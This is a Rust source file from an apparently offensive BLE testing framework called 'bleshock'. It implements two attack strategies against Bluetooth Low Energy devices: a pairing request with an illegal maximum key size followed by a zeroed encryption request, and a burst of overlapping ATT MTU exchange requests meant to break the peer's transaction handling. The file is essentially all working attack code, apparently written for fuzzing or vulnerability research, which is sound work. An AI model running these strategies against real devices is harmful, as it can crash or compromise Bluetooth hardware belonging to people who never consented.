//! BLE attack strategies
//!
//! Both strategies take over once the length exchange has concluded:
//! - Key size overflow: pairing request with an out-of-range maximum key
//!   size, followed by an all-zero encryption request
//! - Sequential ATT: back-to-back MTU exchange requests without waiting for
//!   the first response

use bleshock_attack::{
    AttackStrategy, Event, Injection, LivenessPolicy, OutboundFrame, ResetTrigger, Session,
};
use bleshock_core::{AttackParams, Error, Result};
use bleshock_packet::sm::io_capability;
use bleshock_packet::{AttPdu, BtlePacket, ControlPdu, EncRequest, PairingParams, SmPdu};
use tracing::{debug, info, warn};

/// Progress markers stored in [`Session::attack_step`]
mod step {
    pub const PAIRING_SENT: u8 = 1;
    pub const ENC_REQ_SENT: u8 = 2;
}

/// Pairing request with an oversized max encryption key size
///
/// On the peer's pairing response an `LL_ENC_REQ` with zeroed fields is
/// sent to force key derivation on the invalid size.
#[derive(Debug, Clone)]
pub struct KeySizeOverflowAttack {
    pairing: PairingParams,
}

impl KeySizeOverflowAttack {
    pub const DEFAULT_MAX_KEY_SIZE: u8 = 253;
    pub const DEFAULT_AUTH_REQ: u8 = 0x05;
    pub const DEFAULT_KEY_DISTRIBUTION: u8 = 0x07;

    pub fn new(pairing: PairingParams) -> Self {
        if pairing.key_size_is_legal() {
            warn!(
                max_key_size = pairing.max_key_size,
                "Key size is within the legal range; the peer is not being probed for overflow"
            );
        }
        Self { pairing }
    }

    /// Build from `max_key_size`, `io_capability`, `auth_req` and
    /// `key_distribution`
    pub fn from_params(params: &AttackParams) -> Result<Self> {
        let key_distribution =
            params.u8_or("key_distribution", Self::DEFAULT_KEY_DISTRIBUTION)?;
        Ok(Self::new(PairingParams {
            io_capability: params.u8_or("io_capability", io_capability::KEYBOARD_DISPLAY)?,
            oob_data_flag: 0,
            auth_req: params.u8_or("auth_req", Self::DEFAULT_AUTH_REQ)?,
            max_key_size: params.u8_or("max_key_size", Self::DEFAULT_MAX_KEY_SIZE)?,
            initiator_key_distribution: key_distribution,
            responder_key_distribution: key_distribution,
        }))
    }

    pub fn pairing(&self) -> &PairingParams {
        &self.pairing
    }
}

impl Default for KeySizeOverflowAttack {
    fn default() -> Self {
        Self::new(PairingParams {
            io_capability: io_capability::KEYBOARD_DISPLAY,
            oob_data_flag: 0,
            auth_req: Self::DEFAULT_AUTH_REQ,
            max_key_size: Self::DEFAULT_MAX_KEY_SIZE,
            initiator_key_distribution: Self::DEFAULT_KEY_DISTRIBUTION,
            responder_key_distribution: Self::DEFAULT_KEY_DISTRIBUTION,
        })
    }
}

impl AttackStrategy for KeySizeOverflowAttack {
    fn name(&self) -> &str {
        "key-size-overflow"
    }

    fn on_negotiation_complete(&self, session: &mut Session) -> Injection {
        session.attack_step = step::PAIRING_SENT;
        info!(
            max_key_size = self.pairing.max_key_size,
            "Sending malicious pairing request"
        );
        Injection::send(vec![OutboundFrame::send_and_capture(BtlePacket::sm(
            session.access_address,
            SmPdu::PairingRequest(self.pairing),
        ))])
    }

    fn on_response(&self, session: &mut Session, event: &Event) -> Injection {
        match event {
            Event::Sm(SmPdu::PairingResponse(response))
                if session.attack_step == step::PAIRING_SENT =>
            {
                debug!(
                    max_key_size = response.max_key_size,
                    io_capability = response.io_capability,
                    "Peer accepted pairing"
                );
                session.attack_step = step::ENC_REQ_SENT;
                info!("Sending zeroed encryption request");
                Injection::trigger(vec![OutboundFrame::send(BtlePacket::control(
                    session.access_address,
                    ControlPdu::EncReq(EncRequest::default()),
                ))])
            }
            Event::Sm(SmPdu::PairingFailed { reason }) => {
                info!(reason = format_args!("0x{:02x}", reason), "Peer rejected pairing");
                Injection::wait()
            }
            _ => Injection::wait(),
        }
    }

    fn liveness_policy(&self) -> LivenessPolicy {
        LivenessPolicy::DATA
    }

    fn reset_trigger(&self) -> ResetTrigger {
        ResetTrigger::NextFrame
    }
}

/// Consecutive ATT MTU exchange requests in one burst
///
/// The peer's transaction state is probed by issuing the next request
/// before the first one completes. The trigger is reached as soon as the
/// burst is out.
#[derive(Debug, Clone, Copy)]
pub struct SequentialAttAttack {
    mtu: u16,
    requests: u8,
}

impl SequentialAttAttack {
    pub const DEFAULT_MTU: u16 = 247;
    pub const DEFAULT_REQUESTS: u8 = 2;

    pub fn new(mtu: u16, requests: u8) -> Result<Self> {
        if requests == 0 {
            return Err(Error::invalid_parameter("requests", "must be at least 1"));
        }
        Ok(Self { mtu, requests })
    }

    /// Build from `mtu` and `requests`
    pub fn from_params(params: &AttackParams) -> Result<Self> {
        Self::new(
            params.u16_or("mtu", Self::DEFAULT_MTU)?,
            params.u8_or("requests", Self::DEFAULT_REQUESTS)?,
        )
    }

    pub fn mtu(&self) -> u16 {
        self.mtu
    }

    pub fn requests(&self) -> u8 {
        self.requests
    }
}

impl Default for SequentialAttAttack {
    fn default() -> Self {
        Self {
            mtu: Self::DEFAULT_MTU,
            requests: Self::DEFAULT_REQUESTS,
        }
    }
}

impl AttackStrategy for SequentialAttAttack {
    fn name(&self) -> &str {
        "sequential-att"
    }

    fn on_negotiation_complete(&self, session: &mut Session) -> Injection {
        info!(mtu = self.mtu, requests = self.requests, "Sending sequential MTU requests");
        let frames = (0..self.requests)
            .map(|_| {
                OutboundFrame::send(BtlePacket::att(
                    session.access_address,
                    AttPdu::ExchangeMtuReq { mtu: self.mtu },
                ))
            })
            .collect();
        Injection::trigger(frames)
    }

    fn on_response(&self, _session: &mut Session, _event: &Event) -> Injection {
        Injection::wait()
    }

    fn liveness_policy(&self) -> LivenessPolicy {
        LivenessPolicy::EMPTY
    }

    fn reset_trigger(&self) -> ResetTrigger {
        ResetTrigger::Immediate
    }
}
